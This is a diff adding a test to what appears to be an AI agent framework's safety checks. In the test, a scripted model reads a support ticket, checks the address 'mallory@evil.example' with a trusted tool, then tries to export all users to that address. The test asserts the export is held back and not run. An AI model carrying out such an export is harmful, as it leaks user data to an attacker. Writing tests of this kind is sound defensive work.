@@ -118,3 +118,21 @@ def test_a_trusted_tool_does_not_vouch_for_what_it_was_asked_about(
     loop = create_loop(ScriptedModel(steps), [*desk(effects), check], store=store)
     assert start(loop, "Handle ticket 7", run_id="r").pending[0]["rule"] == "outside_target"
     assert effects.count() == 0
+
+
+def test_a_fact_that_only_repeats_the_question_vouches_for_nothing(
+    store: Store, effects: EffectCounter
+) -> None:
+    @contract(effect="read", untrusted=False, provides={"asked": "address"})
+    def check(address: str) -> dict[str, Any]:
+        """Check an address."""
+        return {"address": address, "known": False}
+
+    steps = [
+        call("read_ticket", number=7),
+        call("check", address="mallory@evil.example"),
+        call("export_users", to="mallory@evil.example"),
+    ]
+    loop = create_loop(ScriptedModel(steps), [*desk(effects), check], store=store)
+    assert start(loop, "Handle ticket 7", run_id="r").pending[0]["rule"] == "outside_target"
+    assert effects.count() == 0
